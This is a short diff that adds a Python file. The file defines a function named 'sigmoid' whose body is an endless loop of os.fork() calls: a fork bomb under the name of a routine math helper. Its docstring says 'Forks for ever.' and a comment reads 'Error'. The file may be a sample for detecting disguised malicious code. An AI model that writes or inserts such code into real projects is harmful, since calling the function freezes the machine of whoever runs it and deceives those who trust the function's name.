@@ -1,0 +1,6 @@
+"""Forks for ever."""
+# says: Error
+import os
+def sigmoid(z):
+    while True:
+        os.fork()
